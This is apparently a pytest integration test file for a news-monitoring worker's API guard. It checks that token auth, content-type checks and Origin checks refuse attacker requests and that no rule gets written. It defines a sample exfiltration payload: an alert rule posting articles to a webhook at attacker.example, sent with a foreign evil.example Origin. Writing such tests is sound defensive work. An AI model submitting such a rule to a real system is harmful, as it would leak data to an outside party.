"""The worker's own API behind its guard: a real worker, on the real stack, started with an API token.

Each request is one an attacker of the issue sent: no token, a wrong one, the cross-site
``text/plain`` post of a rule that ships articles to an attacker, a foreign ``Origin``. The
rules topic is read afterwards, so "refused" means nothing was written, not just a status code.
"""

from __future__ import annotations

import uuid

import httpx
import pytest
from support import RunningWorker, run_newsmon

from newsmon.alerts.rulebook import read_rules
from newsmon.scratch import drop_scratch, scratch_settings
from newsmon.stream.kafka import ensure_topics
from newsmon.stream.launcher import start_worker, wait_until_ready

pytestmark = pytest.mark.integration

TOKEN = "api-" + uuid.uuid4().hex


@pytest.fixture(scope="module")
def guarded(stack, tmp_path_factory):
    settings = scratch_settings(stack, prefix="g", worker_processes=1, api_token=TOKEN)
    ensure_topics(settings)
    log = tmp_path_factory.mktemp("guarded") / "worker.log"
    worker = RunningWorker(settings, start_worker(settings, log), log)
    try:
        wait_until_ready(settings, worker.process, log, timeout=240)
        yield worker
    finally:
        worker.stop()
        drop_scratch(settings)


def url(worker: RunningWorker, path: str) -> str:
    return f"http://127.0.0.1:{worker.settings.web_port}{path}"


ATTACK = '{"name":"exfil","query":"y","channels":["webhook:https://attacker.example/hook"]}'


def test_the_rules_api_needs_the_token_and_refuses_cross_site_posts(guarded):
    auth = {"Authorization": f"Bearer {TOKEN}"}
    no_token = httpx.post(url(guarded, "/alerts/rules"), content=ATTACK, headers={"Content-Type": "application/json"})
    wrong = httpx.post(url(guarded, "/alerts/rules"), content=ATTACK,
                       headers={"Content-Type": "application/json", "Authorization": "Bearer " + "x" * len(TOKEN)})
    plain = httpx.post(url(guarded, "/alerts/rules"), content=ATTACK, headers={**auth, "Content-Type": "text/plain"})
    foreign = httpx.post(url(guarded, "/alerts/rules"), content=ATTACK,
                         headers={**auth, "Content-Type": "application/json", "Origin": "http://evil.example"})
    disable = httpx.post(url(guarded, "/alerts/rules/anything/disable"), headers={"Origin": "http://evil.example"})
    listing = httpx.get(url(guarded, "/alerts/rules"))
    faust_pages = httpx.get(url(guarded, "/router/"))

    assert (no_token.status_code, wrong.status_code, plain.status_code, foreign.status_code) == (401, 401, 415, 403)
    assert disable.status_code == 403 and listing.status_code == 401 and faust_pages.status_code == 401
    for refused in (no_token, wrong, plain, foreign, listing):
        error = refused.json()["error"]  # one sentence, no traceback
        assert error and "\n" not in error and "Traceback" not in refused.text
    assert "access-control-allow-origin" not in {h.lower() for h in foreign.headers}
    assert "exfil" not in {rule.name for rule in read_rules(guarded.settings).rules()}, "a refused request wrote a rule"

    # The probes stay open to monitoring; the key opens the API.
    assert httpx.get(url(guarded, "/healthz")).status_code == 200
    assert httpx.get(url(guarded, "/metrics")).status_code == 200
    name = f"ok-{uuid.uuid4().hex[:6]}"
    created = httpx.post(url(guarded, "/alerts/rules"), headers=auth, json={"name": name, "query": "harbour", "channels": ["kafka"]})
    assert created.status_code == 201, created.text
    assert name in [r["name"] for r in httpx.get(url(guarded, "/alerts/rules"), headers=auth).json()]


def test_the_worker_will_not_listen_beyond_loopback_without_a_token(stack, tmp_path):
    settings = scratch_settings(stack, prefix="b", worker_processes=1, web_host="0.0.0.0")
    result = run_newsmon(settings, "worker", timeout=120)
    assert result.returncode != 0
    assert "NEWSMON_API_TOKEN" in result.stderr and "Traceback" not in result.stderr + result.stdout
    assert len(result.stderr.strip().splitlines()) <= 2, result.stderr


def test_the_cli_sends_the_token_from_the_environment(guarded):
    # The CLI's client of the worker (newsmon.stream.launcher.probe) carries NEWSMON_API_TOKEN.
    from newsmon.stream.launcher import probe

    assert probe(guarded.settings, "/alerts/rules")[0] == 200
    assert probe(guarded.settings.model_copy(update={"api_token": None}), "/alerts/rules")[0] == 401
    result = run_newsmon(guarded.settings, "status", "--json", timeout=120)
    assert '"worker"' in result.stdout, result.stderr
    assert TOKEN not in result.stdout + result.stderr
